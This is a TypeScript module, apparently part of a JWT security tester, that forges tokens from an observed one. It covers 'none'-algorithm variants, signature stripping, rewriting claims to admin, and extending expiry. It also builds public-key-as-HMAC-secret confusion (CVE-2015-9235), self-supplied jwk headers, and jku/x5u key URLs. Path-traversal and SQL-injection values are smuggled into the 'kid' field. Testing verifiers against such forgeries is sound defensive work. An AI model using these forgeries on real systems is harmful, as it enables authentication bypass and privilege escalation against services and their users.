import { createHmac, createPublicKey, generateKeyPairSync, sign, type JsonWebKey } from "node:crypto";

import { guessedSecret, type SeenToken } from "./seen-tokens.ts";

/** A token that its issuer never signed, by how it came about. */
interface Forgery {
  readonly what: string;
  readonly text: string;
}

type Fields = Readonly<Record<string, unknown>>;

const mostKeys = 2;

/** What an attacker makes of one token without its key. */
export function forgeriesOf(token: SeenToken, keys: readonly JsonWebKey[]): readonly Forgery[] {
  const { header, payload, text } = token;
  const [head = "", body = "", signature = ""] = text.split(".");
  const admin = encode({ ...payload, role: "admin", roles: ["admin"], admin: true });
  const later = encode({ ...payload, exp: Math.floor(Date.now() / 1000) + 10 * 365 * 86_400 });
  return [
    ...["none", "None", "NONE", "nOnE"].map((alg) => ({
      what: `A token of the algorithm ${alg}`,
      text: `${encode({ ...header, alg })}.${body}.`,
    })),
    {
      what: "A token of the algorithm none with its old signature",
      text: `${encode({ ...header, alg: "none" })}.${body}.${signature}`,
    },
    { what: "A token whose signature was taken off", text: `${head}.${body}.` },
    { what: "A token whose signature was changed", text: `${head}.${body}.${changed(signature)}` },
    {
      what: "A token whose claims were changed to an administrator's",
      text: `${head}.${admin}.${signature}`,
    },
    { what: "A token whose end was put off", text: `${head}.${later}.${signature}` },
    ...keys.slice(0, mostKeys).flatMap((key) => confused(header, body, key)),
    ...["/dev/null", "../../../../../../../dev/null"].map((kid) => ({
      what: `A token whose key id leads to an empty file (${kid})`,
      text: hmac({ ...header, alg: "HS256", kid }, body, ""),
    })),
    {
      what: "A token whose key id is SQL that answers the attacker's key",
      text: hmac({ ...header, alg: "HS256", kid: "none' UNION SELECT 'proofmark" }, body, "proofmark"),
    },
    ...brought(header, body),
    ...ended(token),
  ];
}

/** Only who knows the secret can write a token that is sound and over. */
function ended({ text, header, payload }: SeenToken): readonly Forgery[] {
  const secret = header["alg"] === "HS256" ? guessedSecret(text, "HS256") : undefined;
  if (secret === undefined) return [];
  const over = encode({ ...payload, exp: Math.floor(Date.now() / 1000) - 86_400 });
  return [{ what: "A token that ended a day ago", text: hmac(header, over, secret) }];
}

/** Tokens whose header says where the key is to be fetched. */
export function pointingForgeries({ header, text }: SeenToken, url: string): readonly Forgery[] {
  const [, body = ""] = text.split(".");
  const { privateKey } = generateKeyPairSync("ed25519");
  return ["jku", "x5u"].map((name) => ({
    what: `A token that says where its key is to be fetched (${name})`,
    text: signed({ ...header, alg: "EdDSA", [name]: url }, body, (bytes) => sign(null, bytes, privateKey)),
  }));
}

/** The public key, which everybody has, as the secret of an HMAC (CVE-2015-9235 and its kin). */
function confused(header: Fields, body: string, jwk: JsonWebKey): readonly Forgery[] {
  let pem: string;
  try {
    pem = String(createPublicKey({ key: jwk, format: "jwk" }).export({ format: "pem", type: "spki" }));
  } catch {
    return [];
  }
  const spellings: readonly (readonly [what: string, secret: string | Buffer])[] = [
    ["as PEM", pem],
    ["as PEM without its last line break", pem.trimEnd()],
    ["as its bytes", Buffer.from(jwk.x ?? jwk.n ?? "", "base64url")],
    ["as JSON", JSON.stringify(jwk)],
  ];
  return spellings.map(([what, secret]) => ({
    what: `A token whose secret is the public key (${what})`,
    text: hmac({ ...header, alg: "HS256" }, body, secret),
  }));
}

/** RFC 7515 section 4.1.3: a header may bring a key, and nobody has to trust it. */
function brought(header: Fields, body: string): readonly Forgery[] {
  const ed = generateKeyPairSync("ed25519");
  const ec = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const jwkOf = (key: typeof ed.publicKey): unknown => key.export({ format: "jwk" });
  return [
    {
      what: "A token that brings its own key (EdDSA)",
      text: signed({ ...header, alg: "EdDSA", jwk: jwkOf(ed.publicKey) }, body, (bytes) =>
        sign(null, bytes, ed.privateKey),
      ),
    },
    {
      what: "A token that brings its own key (ES256)",
      text: signed({ ...header, alg: "ES256", jwk: jwkOf(ec.publicKey) }, body, (bytes) =>
        sign("sha256", bytes, { key: ec.privateKey, dsaEncoding: "ieee-p1363" }),
      ),
    },
  ];
}

function hmac(header: Fields, body: string, secret: string | Buffer): string {
  return signed(header, body, (bytes) => createHmac("sha256", secret).update(bytes).digest());
}

function signed(header: Fields, body: string, make: (bytes: Buffer) => Buffer): string {
  const text = `${encode(header)}.${body}`;
  return `${text}.${make(Buffer.from(text)).toString("base64url")}`;
}

function encode(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString("base64url");
}

/** Another first letter: the last one may hold bits that mean nothing. */
function changed(signature: string): string {
  return `${signature.startsWith("A") ? "B" : "A"}${signature.slice(1)}`;
}
